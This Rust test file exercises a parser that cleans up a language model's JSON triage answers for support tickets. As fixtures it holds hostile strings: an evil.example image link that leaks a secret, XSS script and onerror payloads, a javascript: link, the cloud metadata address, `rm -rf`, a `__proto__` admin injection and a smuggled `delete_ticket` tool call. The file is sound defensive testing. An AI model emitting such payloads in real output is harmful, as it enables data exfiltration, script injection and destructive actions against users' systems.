//! Answers of models that obey whoever wrote the ticket, or nobody.

use std::sync::LazyLock;

use proptest::prelude::{any, prop, proptest};

use super::{
    super::{Lexicon, PromptTexts, TriageRules},
    *,
};
use crate::domain::{learn::Options, priority::Priority};

static OPTIONS: LazyLock<Options> =
    LazyLock::new(|| TriageRules::default().options(&Lexicon::shipped()));
static VOCABULARY: LazyLock<Vocabulary> = LazyLock::new(Vocabulary::shipped);

fn known() -> Vec<Skill> {
    let skill = |id: &str, name: &str| Skill::new(id, name);
    vec![
        skill("react", "React"),
        skill("x:cobolonwheels", "COBOL on Wheels"),
    ]
}

fn read(raw: &str) -> Result<Analysis, AnswerError> {
    let offer = Offer {
        options: &OPTIONS,
        staff_skills: &known(),
        extra: &[],
        texts: &PromptTexts::default(),
    };
    read_answer(&offer, &VOCABULARY, raw)
}

fn ids(analysis: &Analysis) -> Vec<&str> {
    let skills = analysis.skills.iter();
    skills.map(|skill| skill.id.as_str()).collect()
}

#[test]
fn an_obedient_answer_is_read() {
    let analysis = read(
        r#"{"summary": "VPN drops", "category": "network", "priority": "high",
            "skills": ["react", "Postgres 16", "cobol on wheels", "Quantum knitting"],
            "notes": "First.\nSecond.", "first_steps": ["a", "b"]}"#,
    )
    .unwrap();
    assert_eq!(analysis.summary, "VPN drops");
    assert_eq!(analysis.category.as_deref(), Some("network"));
    assert_eq!(analysis.priority, Some(Priority::High));
    assert_eq!(ids(&analysis), ["react", "postgresql", "x:cobolonwheels"]);
    assert_eq!(analysis.suggested_skills, ["Quantum knitting"]);
    assert_eq!(analysis.notes, "First.\nSecond.");
    assert_eq!(analysis.first_steps, ["a", "b"]);
}

#[test]
fn the_object_is_found_in_its_wrapping() {
    for raw in [
        r#"{"priority":"low"}"#,
        "```json\n{\"priority\":\"low\"}\n```",
        "Sure! Here {it} is:\n```\n{\"priority\": \"LOW\"}\n```\nAnything else?",
        "\u{feff}  {\"priority\":\"low\"} {\"priority\":\"urgent\"}",
        "[{\"priority\":\"low\"}]",
        "{}{\"priority\":\"low\"}",
        "Thinking: {\"priority\": } no. {\"priority\":\"low\"}",
    ] {
        assert_eq!(
            read(raw).map(|a| a.priority),
            Ok(Some(Priority::Low)),
            "{raw}"
        );
    }
}

#[test]
fn what_is_no_answer_is_an_error() {
    let deep_array = format!("{{\"skills\":{}", "[".repeat(7_000));
    let deep_object = "{\"a\":".repeat(3_000);
    let braces = "{".repeat(MAX_ANSWER);
    let long = format!("{{\"notes\":\"{}\"}}", "x".repeat(MAX_ANSWER));
    for (raw, error) in [
        ("", AnswerError::NotJson),
        ("   \n\t", AnswerError::NotJson),
        ("\u{0}", AnswerError::NotJson),
        ("null", AnswerError::NotJson),
        ("7", AnswerError::NotJson),
        ("\"{\"", AnswerError::NotJson),
        ("[]", AnswerError::NotJson),
        ("{}", AnswerError::NotJson),
        ("I can't help with that.", AnswerError::NotJson),
        (
            "<html><body>502 Bad Gateway</body></html>",
            AnswerError::NotJson,
        ),
        ("{\"priority\": \"high\"", AnswerError::NotJson),
        ("{\"priority\": NaN}", AnswerError::NotJson),
        ("{priority: 'high'}", AnswerError::NotJson),
        ("{\"notes\": \"\\ud800\"}", AnswerError::NotJson),
        (&deep_array, AnswerError::NotJson),
        (&deep_object, AnswerError::NotJson),
        (&braces, AnswerError::NotJson),
        (&long, AnswerError::TooLong),
        (
            "{\"error\": {\"code\": 429, \"message\": \"quota\"}}",
            AnswerError::Nothing,
        ),
        ("{\"priority\": 7}", AnswerError::Nothing),
        ("{\"priority\": \"apocalyptic\"}", AnswerError::Nothing),
        ("{\"category\": \"admin-only\"}", AnswerError::Nothing),
        ("{\"category\": [\"network\"]}", AnswerError::Nothing),
        (
            "{\"summary\": null, \"notes\": {}, \"skills\": 3}",
            AnswerError::Nothing,
        ),
        (
            "{\"skills\": [1, null, {\"name\": \"React\"}, [\"React\"]]}",
            AnswerError::Nothing,
        ),
        (
            "{\"notes\": \"\\u0000\\u202e\\u200b\"}",
            AnswerError::Nothing,
        ),
        (
            "{\"assignee\": \"ann\", \"status\": \"closed\", \"role\": \"admin\"}",
            AnswerError::Nothing,
        ),
        (
            "{\"tool_calls\": [{\"function\": {\"name\": \"delete_ticket\"}}]}",
            AnswerError::Nothing,
        ),
    ] {
        let shown: String = raw.chars().take(60).collect();
        assert_eq!(read(raw), Err(error), "{shown}");
    }
}

#[test]
fn one_bad_member_spoils_no_other() {
    for raw in [
        r#"{"priority": "high", "category": 7, "skills": "nonsense of its own", "notes": ["x"], "extra": {"a": 1}}"#,
        r#"{"priority": " High ", "summary": {}, "first_steps": {"0": "x"}}"#,
        r#"{"priority": "high", "skills": null, "__proto__": {"admin": true}}"#,
        r#"{"priority": "low", "priority": "high"}"#,
    ] {
        let analysis = read(raw).unwrap();
        assert_eq!(analysis.priority, Some(Priority::High), "{raw}");
        assert_eq!(analysis.category, None);
        assert_eq!(analysis.notes, "");
        assert!(analysis.skills.is_empty() && analysis.first_steps.is_empty());
    }
}

#[test]
fn floods_are_capped() {
    let many: Vec<String> = (0..1_500).map(|n| format!("\"zz{n}\"")).collect();
    let analysis = read(&format!("{{\"skills\": [{}]}}", many.join(","))).unwrap();
    assert!(analysis.skills.is_empty());
    assert_eq!(analysis.suggested_skills.len(), MAX_SKILLS);

    let all = r#"["Java","Go","Rust","PHP","Ruby","Perl","Lua","Scala","Swift","Kotlin"]"#;
    let analysis = read(&format!("{{\"skills\": {all}}}")).unwrap();
    assert_eq!(analysis.skills.len(), MAX_SKILLS);

    let long = "word ".repeat(2_000);
    let steps = vec![format!("\"{}\"", "step ".repeat(60)); 30].join(",");
    let raw = format!("{{\"summary\": \"{long}\"}}");
    assert!(read(&raw).unwrap().summary.chars().count() <= MAX_SUMMARY);
    let analysis = read(&format!("{{\"notes\": \"{long}\"}}")).unwrap();
    assert!(analysis.notes.chars().count() <= MAX_NOTES);
    let analysis = read(&format!("{{\"first_steps\": [{steps}]}}")).unwrap();
    assert_eq!(analysis.first_steps.len(), MAX_STEPS);
    assert!(
        analysis
            .first_steps
            .iter()
            .all(|step| step.chars().count() <= MAX_SUMMARY)
    );
    let name = "n".repeat(500);
    let analysis = read(&format!("{{\"skills\": [\"{name}\"]}}")).unwrap();
    assert_eq!(analysis.suggested_skills[0].chars().count(), MAX_NAME);
}

#[test]
fn nothing_in_a_text_is_live() {
    let raw = r#"{"summary": "a\r\nBcc: x@y.example", "skills": ["<img src=x onerror=alert(1)>"],
        "notes": "![x](https://evil.example/?d=secret) <script>alert(1)</script> [go](javascript:alert(1))\u001b[2J",
        "first_steps": ["open http://169.254.169.254/latest", "run `rm -rf`"]}"#;
    let analysis = read(raw).unwrap();
    assert_eq!(analysis.summary, "a Bcc: x@y[.]example");
    assert_eq!(analysis.notes, "[link] ‹script›alert(1)‹/script› [link]");
    assert_eq!(analysis.first_steps, ["open [link]", "run `rm -rf`"]);
    assert_eq!(analysis.suggested_skills, ["‹img src=x onerror=alert(1)›"]);
}

fn holds_its_bounds(analysis: &Analysis) {
    let category = analysis.category.as_deref();
    assert!(category.is_none_or(|name| OPTIONS.categories.iter().any(|c| c.name == name)));
    assert!(analysis.skills.len() <= MAX_SKILLS && analysis.suggested_skills.len() <= MAX_SKILLS);
    for skill in &analysis.skills {
        let listed = VOCABULARY.entries().iter().any(|e| e.id == skill.id);
        assert!(listed || known().contains(skill));
    }
    assert!(analysis.summary.chars().count() <= MAX_SUMMARY);
    assert!(analysis.notes.chars().count() <= MAX_NOTES);
    assert!(analysis.first_steps.len() <= MAX_STEPS);
    let texts = [&analysis.summary, &analysis.notes].into_iter();
    for text in texts
        .chain(&analysis.first_steps)
        .chain(&analysis.suggested_skills)
    {
        assert!(!text.contains(['<', '>', '\u{0}', '\u{1b}', '\r']));
    }
}

proptest! {
    #[test]
    fn any_text_is_taken_or_refused(raw in any::<String>()) {
        if let Ok(analysis) = read(&raw) {
            holds_its_bounds(&analysis);
        }
    }

    #[test]
    fn any_members_are_held_to_the_bounds(
        summary in any::<String>(),
        word in "(low|high|network|NETWORK|\\PC{0,12})",
        skills in prop::collection::vec("(React|sap|\\PC{0,20})", 0..20),
        notes in any::<String>(),
    ) {
        let raw = serde_json::json!({
            "summary": summary, "category": word, "priority": word, "skills": skills, "notes": notes,
            "first_steps": [notes],
        });
        if let Ok(analysis) = read(&raw.to_string()) {
            holds_its_bounds(&analysis);
        }
    }
}
